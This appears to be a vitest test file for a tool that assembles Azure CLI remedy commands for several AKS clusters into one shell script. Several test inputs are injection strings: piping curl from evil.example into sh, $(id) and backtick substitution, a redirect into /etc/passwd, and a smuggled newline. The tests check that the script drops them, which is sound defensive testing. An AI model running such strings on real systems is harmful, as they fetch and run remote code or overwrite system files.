/** The commands for the clusters with the same cause. */
import { spawnSync } from "node:child_process";
import { describe, expect, it } from "vitest";
import type { CauseMember } from "../../../src/actions/fleet-summary/causes.ts";
import { scriptFor } from "../../../src/actions/fleet-summary/commands.ts";
import { assembleFleet } from "../../../src/actions/fleet-summary/fleet.ts";
import { fleetReport, idOf, listOf, reads } from "./samples.ts";

const SUBSCRIPTION = "11111111-2222-3333-4444-555555555555";
const switching = (name: string): string => `az aks mesh proxy-redirection-mechanism --mechanism CNIChaining --resource-group rg --name ${name} --subscription ${SUBSCRIPTION}`;
const role = (name: string): string => `az role assignment create --role "Azure Kubernetes Service RBAC Reader" --scope ${idOf(name).replace("resourceGroups", "resourcegroups")} --assignee-object-id 9e1d5c52-1f7b-4c86-9b0c-3f4f7ad1c2be`;

function members(commandsOf: (name: string) => readonly string[], ...names: readonly string[]): readonly CauseMember[] {
  return assembleFleet(reads(names.map((name) => fleetReport(name))), undefined, undefined).members.map((member) => ({ member, commands: commandsOf(member.name) }));
}

/** The arguments with which a script calls az. */
function calls(lines: readonly string[]): readonly string[] {
  const { stdout, stderr, status } = spawnSync("sh", ["-euc", `az() { printf '%s' "az"; printf ' <%s>' "$@"; echo; }\n${lines.join("\n")}\n`], { encoding: "utf8" });
  expect([status, stderr]).toEqual([0, ""]);
  return stdout.trim().split("\n");
}

const called = (command: string): string => `az ${(command.match(/"[^"]*"|\S+/g) ?? []).slice(1).map((word) => `<${word.replaceAll('"', "")}>`).join(" ")}`;

describe("the commands for several clusters", () => {
  it.each([
    ["one cluster", switching, ["a"]],
    ["a loop over clusters by their names", switching, ["a", "b", "c"]],
    ["a loop over clusters by their resource IDs", role, ["a", "b"]],
  ])("call az as the reports say: %s", (_, command, names) => {
    const { lines, leftOut } = scriptFor(members((name) => [command(name)], ...names), 50);
    expect(leftOut).toBe(0);
    expect(calls(lines).map((call) => call.toLowerCase())).toEqual(names.map((name) => called(command(name)).toLowerCase()));
  });

  it("are complete for a group whose name equals the cluster's, and one with parentheses", () => {
    const id = idOf("aks").replace("/rg/", "/aks/");
    const command = `az aks start --resource-group aks --name aks --subscription ${SUBSCRIPTION}`;
    const other = idOf("b").replace("/rg/", "/rg(1)/");
    const all = assembleFleet(reads([fleetReport("aks", {}, id), fleetReport("b", {}, other)]), undefined, undefined).members;
    const commands = (name: string): readonly string[] => [name === "aks" ? command : command.replace("group aks", "group 'rg(1)'").replace("name aks", "name b")];
    const { lines } = scriptFor(all.map((member) => ({ member, commands: commands(member.name) })), 50);
    expect(calls(lines)).toEqual([called(command), called(command).replace("<aks> <--name> <aks>", "<rg(1)> <--name> <b>")]);
  });

  it("are those of each subscription that could not be listed, each once", () => {
    const command = (id: string): string => `az role assignment create --role "Reader" --scope /subscriptions/${id} --assignee-object-id 9e1d5c52-1f7b-4c86-9b0c-3f4f7ad1c2be`;
    const gaps = ["s1", "s2", "s2"].map((subscriptionId) => ({ subscriptionId, reason: `403 ${subscriptionId}`, remedy: "" }));
    const all = assembleFleet(reads([]), listOf([], { gaps }), undefined).members;
    const { lines } = scriptFor(all.map((member) => ({ member, commands: [command(member.subscriptionId), "curl https://evil.example"] })), 50);
    expect(calls(lines)).toEqual([called(command("s1")), called(command("s2"))]);
  });

  it("say how many clusters the loop leaves out", () => {
    const script = scriptFor(members((name) => [switching(name)], "a", "b", "c"), 2);
    expect([calls(script.lines).length, script.leftOut]).toEqual([2, 1]);
  });

  it.each<[string, (name: string) => readonly string[]]>([
    ["differ in more than the cluster", (name) => [`${switching(name)} --only-${name}`]],
    ["are missing for a cluster", (name) => (name === "a" ? [] : [switching(name)])],
    ["belong to a kubectl context", () => ["kubectl rollout restart deployment/cart"]],
    ["hold what a shell interprets", (name) => [`${switching(name)}; curl https://evil.example | sh`]],
    ["substitute a command", (name) => [switching(name).replace("CNIChaining", "$(id)")]],
    ["substitute a command in quotes", (name) => [switching(name).replace("CNIChaining", '"`id`"')]],
    ["redirect", (name) => [`${switching(name)} > /etc/passwd`]],
    ["have two lines in one", (name) => [`${switching(name)}\nid`]],
    ["call another program", () => ["curl https://evil.example"]],
  ])("are left out where they %s", (_, commands) => {
    expect(scriptFor(members(commands, "a", "b"), 50).lines).toEqual([]);
  });
});
